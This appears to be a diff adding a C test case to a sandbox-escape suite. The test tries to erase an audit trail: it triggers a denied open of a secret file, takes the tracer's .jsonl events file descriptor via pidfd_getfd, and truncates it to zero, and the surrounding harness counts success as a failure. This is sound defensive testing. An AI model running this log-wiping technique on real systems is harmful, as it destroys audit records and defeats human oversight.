@@ -1,0 +1,97 @@
+/*
+ * Vectors 9, 14: erase the audit trail. Make a denied open (its deny event is
+ * what to erase), take the tracer's events file with pidfd_open + pidfd_getfd
+ * (the fd whose /proc link ends in .jsonl: a writable fd, whatever the policy
+ * says of its path) and ftruncate it to 0 bytes. Natively there is no tracer:
+ * a child of ours holding work/standin.events.jsonl stands in for it.
+ * run.sh fails the test either way the erasure succeeds: exit 0, or no deny
+ * event left in the events file.
+ * expect: ptrace_process|ptrace_file
+ * expect-match: protected
+ */
+#include "esc.h"
+#include <signal.h>
+
+/* A child holding an events file open for appending, as the tracer does. */
+static pid_t stand_in(void)
+{
+	int p[2];
+	char c;
+
+	if (pipe(p) < 0)
+		esc_broken("pipe: %s", strerror(errno));
+	pid_t pid = fork();
+	if (pid < 0)
+		esc_broken("fork: %s", strerror(errno));
+	if (pid == 0) {
+		int fd = open(esc_fmt("%s/standin.events.jsonl", esc_work()),
+			      O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
+		if (fd < 0 || write(fd, "{\"deny\":1}\n", 11) != 11)
+			_exit(2);
+		if (write(p[1], "x", 1) != 1)
+			_exit(2);
+		pause();
+		_exit(0);
+	}
+	close(p[1]);
+	if (read(p[0], &c, 1) != 1)
+		esc_broken("the stand-in did not open its events file");
+	close(p[0]);
+	return pid;
+}
+
+/* pid's fd whose /proc link ends in .jsonl, as our fd; -1 if none. */
+static int steal_events(pid_t pid)
+{
+	int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
+	char l[4096];
+
+	if (pfd < 0) {
+		printf("pidfd_open(%d): %s\n", (int)pid, strerror(errno));
+		return -1;
+	}
+	for (int fd = 0; fd < 1024; fd++) {
+		ssize_t n = readlink(esc_fmt("/proc/%d/fd/%d", (int)pid, fd), l, sizeof(l) - 1);
+
+		if (n <= 6)
+			continue;
+		l[n] = 0;
+		if (strcmp(l + n - 6, ".jsonl") != 0)
+			continue;
+		int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
+		printf("fd %d of %d (%s) -> %d%s%s\n", fd, (int)pid, l, g, g < 0 ? ": " : "",
+		       g < 0 ? strerror(errno) : "");
+		close(pfd);
+		return g;
+	}
+	close(pfd);
+	printf("no fd of %d is a .jsonl file\n", (int)pid);
+	return -1;
+}
+
+int main(void)
+{
+	pid_t tracer = esc_tracer_pid();
+	pid_t holder = tracer ? tracer : stand_in();
+	struct stat st;
+
+	setvbuf(stdout, NULL, _IONBF, 0);
+	int fd = open(esc_secret_path(), O_RDONLY); /* the event to erase */
+	printf("open of the secret: %s\n", fd >= 0 ? "allowed" : strerror(errno));
+	int ev = steal_events(holder);
+	int saved = errno;
+	if (!tracer) {
+		kill(holder, SIGKILL);
+		esc_wait(holder);
+	}
+	if (ev < 0)
+		esc_blocked("could not take the events fd: %s", strerror(saved));
+	if (fstat(ev, &st) < 0 || st.st_size == 0)
+		esc_blocked("the events file is empty or gone");
+	printf("events file: %lld bytes\n", (long long)st.st_size);
+	if (ftruncate(ev, 0) < 0)
+		esc_blocked("ftruncate of the events file: %s", strerror(errno));
+	if (fstat(ev, &st) == 0 && st.st_size == 0)
+		esc_success("the events file was truncated to 0 bytes");
+	esc_blocked("the events file still holds %lld bytes", (long long)st.st_size);
+}
